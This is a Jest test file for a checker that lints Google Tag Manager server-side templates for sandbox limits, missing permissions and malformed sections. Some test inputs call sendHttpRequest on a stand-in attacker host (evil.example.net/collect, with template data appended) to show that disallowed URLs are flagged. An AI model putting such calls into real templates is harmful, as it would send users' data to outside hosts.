import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { checkTpl } from '../../compiler/check-tpl';
import { formatDiagnostic } from '../../compiler/diagnostic';
import type { PermissionInstance } from '../../tpl/model';
import { writeTpl } from '../../tpl/write';
import { serverTpl } from '../support/server-tpl';

const SEND_HTTP: PermissionInstance = {
  instance: {
    key: { publicId: 'send_http', versionId: '1' },
    param: [
      { key: 'allowedUrls', value: { type: 1, string: 'specific' } },
      {
        key: 'urls',
        value: { type: 2, listItem: [{ type: 1, string: 'https://api.example.com/*' }] },
      },
    ],
  },
  clientAnnotations: { isEditedByUser: true },
  isRequired: true,
};

/** One text field, `x`. */
const FIELDS = [{ type: 'TEXT', name: 'x', displayName: 'X', simpleValueType: true }];

function tplWith(code: string, permissions: PermissionInstance[] = [SEND_HTTP]): string {
  return writeTpl({ ...serverTpl(code, permissions, {}, 'Check test'), parameters: FIELDS });
}

// The code section of tplWith() starts on this line of the file.
const CODE_LINE = 34;

const check = (text: string) => checkTpl(text, 'x.tpl').map(formatDiagnostic);

describe('checkTpl', () => {
  test('accepts what published templates use: const, let, arrows, loops, switch, typeof, arguments, top-level return, then/catch, hasOwnProperty', () => {
    const code = [
      "const sendHttpRequest = require('sendHttpRequest');",
      "const getType = require('getType');",
      'let n = 0;',
      'const o = {a: 1};',
      'for (const k in o) { if (o.hasOwnProperty(k)) n++; }',
      'for (const v of [1, 2]) n += v;',
      "switch (typeof n) { case 'number': n++; break; default: n--; }",
      'function count() { return arguments.length; }',
      "if (getType(data.x) === 'undefined') return;",
      "sendHttpRequest('https://api.example.com/e', {method: 'POST'}, '').then((r) => { data.gtmOnSuccess(); }).catch(() => data.gtmOnFailure());",
    ].join('\n');
    expect(check(tplWith(code))).toEqual([]);
  });

  test('the code section starts on the expected line (fixture check)', () => {
    expect(tplWith('X').split('\n')[CODE_LINE - 1]).toBe('X');
  });

  test('reports constructs with the line and column in the .tpl file', () => {
    const code = 'const a = 1;\nwith (a) { }\nconst f = (x = 1) => x;\nconst t = require(a);';
    expect(check(tplWith(code))).toEqual([
      `x.tpl:${CODE_LINE + 1}:1: \`with\` is not supported by the sandbox; refer to the object explicitly`,
      `x.tpl:${CODE_LINE + 2}:12: default values are not supported by the sandbox; check for undefined in the function body (if (x === undefined) x = ...)`,
      `x.tpl:${CODE_LINE + 3}:11: require() takes one string literal naming the API (GTM derives permissions from it), e.g. require('sendHttpRequest')`,
    ]);
  });

  test('reports a global with the require() to write instead', () => {
    expect(check(tplWith('const n = parseInt("1");'))).toEqual([
      `x.tpl:${CODE_LINE}:11: \`parseInt\` is not defined in the sandbox (only \`data\` and \`require\` are global); use makeInteger(x) (const makeInteger = require('makeInteger'))`,
    ]);
  });

  test('a native method the sandbox lacks is an error; object shorthands are warnings', () => {
    const code =
      "const s = 'abc';\nconst ok = s.startsWith('a') && s.includes('b');\nconst o = { s };";
    expect(check(tplWith(code))).toEqual([
      `x.tpl:${CODE_LINE + 1}:35: .includes() is not one of the sandbox's native methods; use indexOf(x) !== -1`,
      `x.tpl:${CODE_LINE + 2}:13: warning: shorthand properties ({ a }) are not among the sandbox's documented ES6 features; write { a: a }`,
    ]);
  });

  test('a permission the file lacks is a warning; a call its settings-less form refuses, an error', () => {
    const code =
      "const getCookieValues = require('getCookieValues');\nconst v = getCookieValues('_vid');";
    expect(check(tplWith(code))).toEqual([
      `x.tpl:${CODE_LINE + 1}:11: warning: getCookieValues needs the get_cookies permission, which ___SERVER_PERMISSIONS___ lacks; GTM's editor adds it with no settings, which refuse every call of getCookieValues; add get_cookies in GTM's template editor (Permissions tab), allowing the cookie it uses`,
      `x.tpl:${CODE_LINE + 1}:27: getCookieValues('_vid') reads a cookie that get_cookies does not allow; add '_vid' to the get_cookies permission's cookie names`,
    ]);
  });

  test('a settings-less permission the file lacks is only a warning', () => {
    const code =
      "const templateDataStorage = require('templateDataStorage');\ntemplateDataStorage.getItemCopy('k');";
    expect(check(tplWith(code))).toEqual([
      `x.tpl:${CODE_LINE + 1}:1: warning: templateDataStorage needs the access_template_storage permission, which ___SERVER_PERMISSIONS___ lacks; GTM's editor adds it with no settings, which allow templateDataStorage; add access_template_storage in GTM's template editor (Permissions tab) so the file lists what it uses`,
    ]);
  });

  test('reports a literal URL that send_http does not cover', () => {
    const code =
      "const sendHttpRequest = require('sendHttpRequest');\nsendHttpRequest('https://evil.example.net/x', () => {});";
    expect(check(tplWith(code))).toEqual([
      `x.tpl:${CODE_LINE + 1}:17: sendHttpRequest('https://evil.example.net/x') calls a URL that send_http does not allow; add a matching URL pattern to the send_http permission`,
    ]);
  });

  test('follows a URL through const bindings and + with a constant prefix', () => {
    const code = [
      "const sendHttpRequest = require('sendHttpRequest');",
      "const URL = 'https://evil.example.net/collect';",
      'sendHttpRequest(URL, () => {});',
      "const BASE = 'https://evil.example.net/';",
      "const path = 'e/' + data.x;",
      "sendHttpRequest(BASE + path + '?a=1', () => {});",
      "const GOOD = 'https://api.example.com/';",
      'sendHttpRequest(GOOD + data.x, () => {});',
      "let moved = 'https://api.example.com/';",
      "moved = 'https://evil.example.net/';",
      'sendHttpRequest(moved, () => {});',
    ].join('\n');
    expect(check(tplWith(code))).toEqual([
      `x.tpl:${CODE_LINE + 2}:17: sendHttpRequest('https://evil.example.net/collect') calls a URL that send_http does not allow; add a matching URL pattern to the send_http permission`,
      `x.tpl:${CODE_LINE + 5}:17: sendHttpRequest('https://evil.example.net/e/' + ...) calls a URL that send_http does not allow; add a matching URL pattern to the send_http permission`,
      `x.tpl:${CODE_LINE + 10}:17: warning: sendHttpRequest: the URL is only known at run time, so send_http cannot be checked for it here; start it with a constant (const BASE = 'https://api.example.com/'; BASE + path) to have it checked`,
    ]);
  });

  test('data.X that is not a field: an error when called, a warning when read', () => {
    const code = "if (data.y === 'a') data.gtmOnSucess();\nconst z = data['x'] + data.gtmOnFailur;";
    expect(check(tplWith(code))).toEqual([
      `x.tpl:${CODE_LINE}:10: warning: data.y is not a field of this template (nor gtmOnSuccess/gtmOnFailure); did you mean data.x? (GTM gives undefined for it)`,
      `x.tpl:${CODE_LINE}:26: data.gtmOnSucess is not a field of this template (nor gtmOnSuccess/gtmOnFailure); did you mean data.gtmOnSuccess?`,
      `x.tpl:${CODE_LINE + 1}:28: data.gtmOnFailur is not a field of this template (nor gtmOnSuccess/gtmOnFailure); did you mean data.gtmOnFailure?`,
    ]);
  });

  test('warns once about sections out of order, reports missing ones and invalid JSON', () => {
    const good = tplWith('data.gtmOnSuccess();');
    const swapped = good
      .replace('___TESTS___', '___TMP___')
      .replace('___NOTES___', '___TESTS___')
      .replace('___TMP___', '___NOTES___');
    // After the swap the YAML is under ___NOTES___ and the empty notes under ___TESTS___.
    const lines = good.split('\n');
    expect(check(swapped)).toEqual([
      `x.tpl:${lines.indexOf('___NOTES___') + 1}:1: warning: ___TESTS___ comes after ___NOTES___ (line ${lines.indexOf('___TESTS___') + 1}); sections are read in any order, but GTM writes ___TERMS_OF_SERVICE___, ___INFO___, ___TEMPLATE_PARAMETERS___, ___SANDBOXED_JS_FOR_SERVER___, ___SERVER_PERMISSIONS___, ___TESTS___, ___NOTES___: re-export the template or move the sections`,
    ]);
    const noNotes = good.slice(0, good.indexOf('___NOTES___'));
    expect(check(noNotes)).toEqual([
      "x.tpl:1:1: warning: missing section ___NOTES___; read as empty, as GTM's importer does",
    ]);
    const badJson = good.replace('"version": 1,', '"version": 1');
    expect(check(badJson)).toEqual([
      "x.tpl:7:3: ___INFO___: invalid JSON (Expected ',' or '}' after property value in JSON at position 66); fix the JSON or re-export the template from GTM",
    ]);
  });

  test('reports ___INFO___ that does not fit the code section', () => {
    const text = tplWith('data.gtmOnSuccess();')
      .replace('"type": "TAG"', '"type": "TAGS"')
      .replace('    "SERVER"', '    "WEB"');
    expect(check(text)).toEqual([
      'x.tpl:3:1: ___INFO___: "containerContexts" does not include "SERVER", but the code section is for server containers',
      'x.tpl:3:1: ___INFO___: "type" is "TAGS"; GTM knows "TAG", "CLIENT" and "MACRO"',
    ]);
  });

  test('reports a syntax error at its line', () => {
    expect(check(tplWith('const a = ;'))).toEqual([
      `x.tpl:${CODE_LINE}:11: syntax error: Unexpected token; the sandbox runs ECMAScript 5.1 plus const/let and arrow functions`,
    ]);
  });
});

// The repository's own built templates: what `npm run build` writes must check clean.
describe("the repository's built templates", () => {
  const ROOT = join(__dirname, '..', '..', '..');
  test.each(['dist/template.tpl', 'template.tpl'])('%s has no errors', (file) => {
    const text = readFileSync(join(ROOT, file), 'utf8');
    const errors = checkTpl(text, file).filter((x) => x.severity === 'error');
    expect(errors.map(formatDiagnostic)).toEqual([]);
  });
});
